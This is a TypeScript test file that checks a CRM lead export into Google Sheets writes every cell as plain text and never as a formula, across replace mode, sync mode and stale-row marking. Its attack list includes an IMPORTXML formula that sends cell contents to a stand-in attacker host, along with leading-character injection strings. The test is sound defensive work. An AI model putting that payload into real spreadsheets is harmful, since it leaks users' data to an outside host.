/**
 * Formula injection, export side (issue 13.4): whatever the CRM holds, every cell an export
 * writes is stored as the text or number it is, never a formula, in both modes, including
 * sync's in-place updates, the untouched rows rewritten between them, and staleRows marks.
 * Read back with getFormulas, as Sheets stores it.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import type { LeadRow } from '../../sandbox/types';
import { LEAD_COLUMNS } from '../../src/core/export/columns';
import { accountLeads, buildBundle, createHarness, type Harness } from './export-harness';

beforeAll(async () => {
  await buildBundle();
});

const ATTACKS = [
  '=IMPORTXML("https://attacker.example/?d="&A2&B2,"//a")',
  '+5511987654321',
  '-1',
  '@x',
];
const COLUMNS = [...LEAD_COLUMNS, 'custom_fields.cpf'];

/** Puts attack strings in every text the lead's columns show (round `turn` picks which). */
function poison(h: Harness, lead: LeadRow, turn: number): Record<string, string> {
  const state = h.sandbox.state;
  const pick = (i: number) => ATTACKS[(i + turn) % ATTACKS.length] as string;
  const now = new Date(h.clock.now()).toISOString();
  Object.assign(lead, {
    name: pick(0),
    email: pick(1),
    phone: pick(2),
    company: pick(3),
    source: pick(0),
    tags: [pick(1)],
    utm_source: pick(2),
    utm_medium: pick(3),
    utm_campaign: pick(0),
    utm_term: pick(1),
    utm_content: pick(2),
    custom_fields: { ...lead.custom_fields, cpf: pick(3) },
    updated_at: now,
  });
  const owner = state.users.find((user) => user.id === lead.assigned_to);
  if (owner) Object.assign(owner, { name: pick(1), email: pick(2) });
  const stage = state.stages.find((s) => s.id === lead.stage_id);
  if (stage) stage.name = pick(3);
  const pipeline = state.pipelines.find((p) => p.id === lead.pipeline_id);
  if (pipeline) pipeline.name = pick(0);
  state.notes.push({
    id: 900_000 + turn,
    lead_id: lead.id,
    body: pick(1),
    author: pick(2),
    created_at: now,
  });
  state.contacts = state.contacts.filter((c) => c.lead_id !== lead.id);
  state.contacts.push({
    id: 900_000 + turn,
    lead_id: lead.id,
    name: pick(2),
    role: pick(3),
    phone: null,
    email: null,
    is_primary: true,
  });
  return {
    name: pick(0),
    email: pick(1),
    phone: pick(2),
    company: pick(3),
    source: pick(0),
    tags: pick(1),
    utm_source: pick(2),
    utm_medium: pick(3),
    utm_campaign: pick(0),
    utm_term: pick(1),
    utm_content: pick(2),
    'custom_fields.cpf': pick(3),
    ...(owner ? { owner_name: pick(1), owner_email: pick(2) } : {}),
    stage: pick(3),
    pipeline: pick(0),
    last_note: pick(1),
    primary_contact: pick(2),
  };
}

/** No formula anywhere, and each poisoned column of the lead's row holds its exact text. */
function expectStoredAsText(
  h: Harness,
  sheetName: string,
  leadId: number,
  expected: Record<string, string>,
) {
  const sheet = h.runtime.sheet(sheetName);
  const formulas = sheet
    .getFormulas()
    .flat()
    .filter((formula) => formula !== '');
  expect(formulas).toEqual([]);
  const [header, ...rows] = sheet.getValues();
  const row = rows.find((r) => r[(header ?? []).indexOf('id')] === leadId);
  expect(row).toBeDefined();
  for (const [column, text] of Object.entries(expected)) {
    const index = (header ?? []).indexOf(column);
    expect(index, column).toBeGreaterThanOrEqual(0);
    expect(row?.[index], column).toBe(text);
  }
  return { header: header ?? [], rows };
}

describe('export writes attack strings as text, never formulas', () => {
  it('replace mode: every column', async () => {
    const h = await createHarness();
    const lead = accountLeads(h.sandbox)[0] as LeadRow;
    const expected = poison(h, lead, 0);
    h.runtime.runOrThrow('crmExportLeads', { sheet: 'Ataque', columns: COLUMNS });
    expectStoredAsText(h, 'Ataque', lead.id, expected);
  });

  it('sync mode: added rows, in-place updates, rows rewritten between them, and GONE marks', async () => {
    const h = await createHarness();
    const [lead, other, gone] = accountLeads(h.sandbox) as [LeadRow, LeadRow, LeadRow];
    poison(h, lead, 0);
    poison(h, other, 2);
    const options = { sheet: 'Ataque', mode: 'sync', columns: COLUMNS };
    h.runtime.runOrThrow('crmExportLeads', options);
    h.clock.advance(3_600_000);
    // Every value changes to another attack; a third lead is deleted (its row gets marked).
    const expected = poison(h, lead, 1);
    h.sandbox.state.leads = h.sandbox.state.leads.filter((l) => l !== gone);
    const summary = h.runtime.runOrThrow('crmExportLeads', { ...options, staleRows: 'mark' }) as {
      counts: Record<string, number>;
    };
    expect(summary.counts.UPDATED).toBeGreaterThan(0);
    expect(summary.counts.GONE).toBe(1);
    const { header, rows } = expectStoredAsText(h, 'Ataque', lead.id, expected);
    const status = header.indexOf('CRM Sync Status');
    const goneRow = rows.find((r) => r[header.indexOf('id')] === gone.id);
    expect(goneRow?.[status]).toBe('GONE');
  });
});
